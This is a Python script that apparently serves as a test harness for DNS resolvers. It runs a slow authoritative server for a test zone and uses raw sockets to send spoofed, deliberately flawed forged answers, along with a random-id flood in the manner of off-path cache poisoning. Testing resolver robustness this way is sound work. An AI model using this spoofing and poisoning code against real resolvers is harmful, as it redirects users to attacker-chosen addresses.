"""A slow DNS server for one zone, and somebody off the path who wants to be believed instead of it.

    forger.py ADDRESS TRUE FORGED

Answers on port 53 of ADDRESS with the address TRUE, a third of a second late by UDP, at once by TCP. Until then it sends forged
answers with the address FORGED, more than anybody off the path could: to the very port that asked, but with what such a
one cannot know or do wrong in each kind. Beside that, a flood with random ids to random ports, all from ADDRESS.
"""

import random
import socket
import struct
import sys
import threading
import time

SERVER, TRUE, FORGED = sys.argv[1:4]
LATE = 0.3
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def name_end(message):
    at = 12
    while message[at]:
        at += 1 + message[at]
    return at + 1


def answer(query, address, identifier=None, question=None, extra=()):
    end = name_end(query) + 4
    asked = question if question is not None else query[12:end]
    head = struct.pack(
        "!HHHHHH", struct.unpack("!H", query[:2])[0] if identifier is None else identifier, 0x8180, 1, 1, 0, len(extra)
    )
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
    return head + asked + record + b"".join(extra)


def spoof(source, port, target, message, source_port=53):
    """A datagram from whoever it says; the kernel fills in the length and the checksum of IP."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(message), 0) + message
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    try:
        raw.sendto(head + udp, (target, 0))
    except OSError:
        pass


def other_case(question):
    """Every letter the other way: one of them is wrong but for one time in 2 to the power of their number."""
    return bytes(octet ^ 0x20 if 65 <= octet & 0xDF <= 90 else octet for octet in question[:-4]) + question[-4:]


def forgeries(query, port, target):
    end = name_end(query) + 4
    question = query[12:end]
    identifier = struct.unpack("!H", query[:2])[0]
    stranger = b"\x04bank\x04acme\x04test\x00" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(FORGED)
    elsewhere = b"\x05other\x04acme\x04test\x00\x00\x01\x00\x01"
    # The second or third wrong id sends the question by TCP, so what has the right one goes first.
    for message, source, source_port in (
        (answer(query, FORGED), "198.18.7.3", 53),
        (answer(query, FORGED), SERVER, 5353),
        (answer(query, FORGED, question=other_case(question)), SERVER, 53),
        (answer(query, FORGED, question=elsewhere), SERVER, 53),
        (answer(query, FORGED, question=question[:-4] + b"\x00\x1c\x00\x01"), SERVER, 53),
        (answer(query, FORGED, question=b""), SERVER, 53),
        (answer(query, FORGED, identifier=identifier ^ 1), SERVER, 53),
        (answer(query, FORGED, identifier=identifier ^ 0x8000, extra=(stranger,)), SERVER, 53),
    ):
        # The order changes from name to name, so that each kind is the first one some time.
        yield message, source, source_port


def udp(server):
    while True:
        query, (asker, port) = server.recvfrom(4096)
        lies = list(forgeries(query, port, asker))
        random.shuffle(lies)
        for message, source, source_port in lies[: random.randint(1, len(lies))]:
            spoof(source, port, asker, message, source_port)
        stranger = b"\x04bank\x04acme\x04test\x00" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(FORGED)
        true = answer(query, TRUE, extra=(stranger,))
        threading.Timer(LATE, lambda to=(asker, port), what=true: server.sendto(what, to)).start()


def tcp(server):
    while True:
        connection, _ = server.accept()
        threading.Thread(target=stream, args=(connection,), daemon=True).start()


def stream(connection):
    with connection:
        head = connection.recv(2, socket.MSG_WAITALL)
        while len(head) == 2:
            query = connection.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL)
            reply = answer(query, TRUE)
            connection.sendall(struct.pack("!H", len(reply)) + reply)
            head = connection.recv(2, socket.MSG_WAITALL)


def flood(target):
    query = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0) + b"\x02v0\x04acme\x04test\x00\x00\x01\x00\x01"
    while True:
        for _ in range(50):
            spoof(SERVER, random.randint(1024, 65535), target, answer(query, FORGED, random.randint(0, 65535)))
        time.sleep(0.01)


by_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
by_udp.bind((SERVER, 53))
by_tcp = socket.create_server((SERVER, 53))
threading.Thread(target=udp, args=(by_udp,), daemon=True).start()
threading.Thread(target=tcp, args=(by_tcp,), daemon=True).start()
threading.Thread(target=flood, args=("198.18.7.1",), daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
